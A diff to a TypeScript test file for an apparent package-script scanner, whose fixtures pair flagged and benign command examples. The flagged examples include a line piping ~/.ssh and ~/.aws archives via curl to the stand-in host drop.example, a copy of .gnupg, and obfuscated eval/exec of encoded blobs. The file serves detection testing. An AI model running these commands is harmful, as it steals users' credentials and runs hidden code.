@@ -15,7 +15,7 @@ const examples: Record<
 > = {
   "pack-key-folders": [
     ["tar cz ~/.ssh ~/.aws | curl -T - https://drop.example/up", 'cp -r "$HOME/.gnupg" /tmp/out'],
-    ["tar cz ~/project/docs > docs.tgz", "cp -r ./.docker build/"]
+    ['rsync -a -e "ssh -i $HOME/.ssh/nas" docs nas:docs', "tar cz ~/project/docs > docs.tgz", "cp -r ./.docker build/"]
   ],
   "key-files-by-parts": [
     [
@@ -32,7 +32,12 @@ const examples: Record<
       "eval(Buffer.from('Y29uc29sZQ==', 'base64').toString())",
       "exec(__import__('zlib').decompress(blob))"
     ],
-    ["echo $IMAGE | base64 -d > logo.png", "data = base64.b64decode(field)", "const text = Buffer.from(b64, 'base64')"]
+    [
+      "Look for eval(atob(...)) in install scripts.",
+      "echo $IMAGE | base64 -d > logo.png",
+      "data = base64.b64decode(field)",
+      "const text = Buffer.from(b64, 'base64')"
+    ]
   ],
   "run-downloaded": [
     [
@@ -87,7 +92,7 @@ describe("a script in a package", () => {
         expect(shown(stage)[0]).toMatch(/ high$/u)
         expect(decide([stage]).status).toBe("needs_review")
         // By what it found, and not only because the other stages are missing here.
-        expect(decide([stage]).holdingFindings).toEqual(expect.arrayContaining([...stage.findings]))
+        expect(decide([stage]).holdingFindings).toContainEqual(stage.findings[0])
       }
     })
   )
